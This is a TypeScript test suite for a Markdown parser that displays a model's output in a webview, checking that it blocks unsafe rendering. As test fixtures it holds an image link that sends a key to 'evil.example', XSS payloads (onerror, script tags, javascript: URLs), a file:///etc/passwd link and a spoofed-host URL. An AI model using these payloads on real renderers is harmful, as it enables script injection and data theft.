import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { linkTarget } from '../../../src/webview/agent/markdown/linkTarget.ts';
import { type MarkdownBlock, readMarkdown } from '../../../src/webview/agent/markdown/markdownTree.ts';

const blocksOf = (source: string): readonly MarkdownBlock[] =>
  readMarkdown(source)
    .map(({ block }) => block)
    .filter((block) => block !== undefined);
const text = (words: string) => ({ type: 'text', text: words });
const paragraph = (...children: readonly unknown[]) => ({ type: 'paragraph', children });

describe("A model's Markdown as a tree", () => {
  it('has paragraphs, headings, lists, quotes, tables, code and rules', () => {
    const source = [
      '# A *heading*',
      'One **two** `three` ~~four~~',
      '3. third\n4. fourth\n   - within',
      '> quoted',
      '| a | b |\n|---|---|\n| 1 | 2 |',
      '```ts\nconst a = "<b>";\n```',
      '---',
    ].join('\n\n');
    expect(blocksOf(source)).toEqual([
      { type: 'heading', level: 1, children: [text('A '), { type: 'emphasis', children: [text('heading')] }] },
      paragraph(text('One '), { type: 'strong', children: [text('two')] }, text(' '), { type: 'code', text: 'three' }, text(' '), {
        type: 'struck',
        children: [text('four')],
      }),
      {
        type: 'list',
        start: 3,
        items: [[paragraph(text('third'))], [paragraph(text('fourth')), { type: 'list', items: [[paragraph(text('within'))]] }]],
      },
      { type: 'quote', children: [paragraph(text('quoted'))] },
      { type: 'table', header: [[text('a')], [text('b')]], rows: [[[text('1')], [text('2')]]] },
      { type: 'code', language: 'ts', text: 'const a = "<b>";' },
      { type: 'rule' },
    ]);
  });

  it('keeps the boxes of tasks as text', () => {
    expect(blocksOf('- [x] done\n- [ ] open')).toEqual([
      { type: 'list', items: [[paragraph(text('[x] '), text('done'))], [paragraph(text('[ ] '), text('open'))]] },
    ]);
  });

  it('loads no picture: it names it and its address', () => {
    expect(blocksOf('![secrets](https://evil.example/?q=KEY)')).toEqual([paragraph(text('secrets (https://evil.example/?q=KEY)'))]);
  });

  it('shows HTML as it was written', () => {
    expect(blocksOf('<img src=x onerror=alert(1)>\n\nsee <script>alert(1)</script> here')).toEqual([
      { type: 'plain', text: '<img src=x onerror=alert(1)>' },
      paragraph(text('see '), text('<script>'), text('alert(1)'), text('</script>'), text(' here')),
    ]);
  });

  it('shows where links lead, and opens none but those of the web', () => {
    const links = (source: string): readonly unknown[] => {
      const [block] = blocksOf(source);
      return block?.type === 'paragraph' ? block.children.filter(({ type }) => type === 'link') : [];
    };
    const link = (words: string, target: string, canOpen: boolean) => ({ type: 'link', children: [text(words)], target, canOpen });
    expect([
      ...links('[docs](https://good.example/a)'),
      ...links('[run](command:workbench.action.terminal.new)'),
      ...links('[file](file:///etc/passwd)'),
      ...links('[plain](http://good.example/)'),
      ...links('[as somebody](https://good.example@evil.example/)'),
      ...links('[script](javascript:alert(1))'),
    ]).toEqual([
      link('docs', 'https://good.example/a', true),
      link('run', 'command:workbench.action.terminal.new', false),
      link('file', 'file:///etc/passwd', false),
      link('plain', 'http://good.example/', false),
      link('as somebody', 'https://good.example@evil.example/', false),
      link('script', 'javascript:alert(1)', false),
    ]);
  });

  it('shows the host of a link in the letters that it is really asked by', () => {
    expect(linkTarget('https://g\u043e\u043ed.example/')).toEqual({ target: 'https://xn--gd-fmca.example/', canOpen: true });
  });

  it('shows what is nested too deep to be read as it was written, and does not fail', () => {
    const source = '>'.repeat(5000);
    expect(blocksOf(source)).toEqual([{ type: 'plain', text: source }]);
  });

  it('never fails, whatever a model writes', () => {
    const pieces = fc.constantFrom(
      '# ',
      '- ',
      '1. ',
      '> ',
      '```',
      '`',
      '*',
      '**',
      '_',
      '[',
      '](',
      ')',
      '<b>',
      '|',
      '\n',
      '\n\n',
      '    ',
      'a',
      '&lt;',
      '\\',
      '![',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 40 }), (parts) => {
        const shown = JSON.stringify(readMarkdown(parts.join('')).map(({ block }) => block));
        // Nothing that is read gets a type that the page has no node for.
        expect(shown.match(/"type":"(?!paragraph|heading|code|quote|list|table|rule|plain|text|strong|emphasis|struck|break|link)/)).toBe(
          null,
        );
      }),
      { numRuns: 1000 },
    );
  });
});
